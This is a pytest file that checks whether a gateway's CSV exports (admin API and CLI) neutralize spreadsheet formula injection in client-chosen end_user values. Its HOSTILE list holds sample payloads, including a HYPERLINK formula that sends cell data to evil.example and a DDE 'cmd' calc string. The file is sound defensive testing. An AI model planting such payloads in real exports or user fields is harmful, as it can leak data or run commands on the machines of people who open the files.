"""CSV exports cannot carry formulas: a text cell that begins with ``=``, ``+``, ``-``, ``@``,
tab or carriage return is written with a leading ``'`` (OWASP), every text cell is quoted, and
numbers stay numbers. A table of cells, then the admin API's and ``kvgate usage``'s exports of
records whose ``end_user`` a client chose."""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import pytest

from gateway.usage.csv_out import safe_cell, write_csv
from tests.e2e.servers import KVGATE, ROOT
from tests.gateway.harness import ADMIN_TOKEN, live_gateway, make_settings
from tests.usage.helpers import hour_range, wait_records

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *[(v, "'" + v) for v in HOSTILE],
        ("alice", "alice"),
        ("a=b", "a=b"),  # only the first character counts
        (" =1", " =1"),  # not in OWASP's list: a leading space is text to every spreadsheet
        ("'=quoted", "'=quoted"),
        ("", ""),
        ("2027-01-01T00:00:00Z", "2027-01-01T00:00:00Z"),
        (-5, -5),  # a number of a typed column, not text a client chose
        (1.25, 1.25),
        (0, 0),
        (True, True),
        (None, None),
    ],
)
def test_a_cell(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell


def test_quoting_stays_correct() -> None:
    rows = [
        {"end_user": '=1+1,"x"\n@y', "n": -3, "spend": 0.5, "worker": None, "extra": "ignored"},
        {"end_user": "a;=b", "n": 7, "spend": 1.0, "worker": "w-1"},
    ]
    buf = io.StringIO()
    write_csv(buf, ["end_user", "n", "spend", "worker"], rows)
    text = buf.getvalue()
    assert text.splitlines()[0] == '"end_user","n","spend","worker"'
    assert '"\'=1+1,""x""\n@y",-3,0.5,""\n' in text  # text quoted, numbers bare
    assert '"a;=b",7,1.0,"w-1"' in text  # a separator of another locale stays inside its cell
    back = list(csv.reader(io.StringIO(text)))
    assert back[1] == ['\'=1+1,"x"\n@y', "-3", "0.5", ""]
    assert back[2] == ["a;=b", "7", "1.0", "w-1"]


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def _usage_cli(url: str, tenant: str, *args: str) -> str:
    r = hour_range()
    cmd = [*KVGATE, "usage", *args, "--database-url", url, "--start", r["start"]]
    cmd += ["--end", r["end"], "--csv"]
    if tenant:
        cmd += ["--tenant", tenant]
    done = await asyncio.to_thread(subprocess.run, cmd, capture_output=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode()  # bytes: text mode would turn a CR inside a cell into LF


async def test_exports_neutralize_what_a_client_sent_as_its_user(
    ledger_database: str, demo_model_dir: Path, tmp_path: Path
) -> None:
    settings = make_settings(ledger_database, tmp_path, KVGATE_MODEL_NAME="demo")
    async with live_gateway(settings, demo_model_dir) as gw:
        tenant = await gw.create_tenant("csv")
        client = gw.openai(tenant.key)
        for user in [*HOSTILE, "plain-user"]:
            await client.chat.completions.create(
                model="demo", messages=[{"role": "user", "content": "hi"}], max_tokens=2, user=user
            )
        await wait_records(ledger_database, tenant.id, len(HOSTILE) + 1)
        query = "&".join(f"{k}={v.replace('+', '%2B')}" for k, v in hour_range().items())
        base = f"{gw.base_url}/admin/v1/tenants/{tenant.id}"
        headers = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
        exports: dict[str, str] = {}
        for name, path in {
            "records": f"{base}/usage/records?format=csv&{query}",
            "report": f"{base}/usage?group_by=end_user&format=csv&{query}",
        }.items():
            async with gw.http.get(path, headers=headers) as resp:
                assert resp.status == 200 and resp.content_type == "text/csv"
                exports[name] = await resp.text()
    exports["cli records"] = await _usage_cli(ledger_database, tenant.id, "records")
    exports["cli report"] = await _usage_cli(
        ledger_database, "", "report", "--group-by", "end_user"
    )
    want = {"'" + v for v in HOSTILE} | {"plain-user"}
    for name, text in exports.items():
        rows = _csv(text)
        column = "end_user" if "records" in name else "group"
        assert {r[column] for r in rows} == want, (name, text)
        assert all(r["prompt_tokens"].isdigit() for r in rows), name  # numbers stay numbers
        for row in rows:  # no cell of any row starts a formula
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, row)
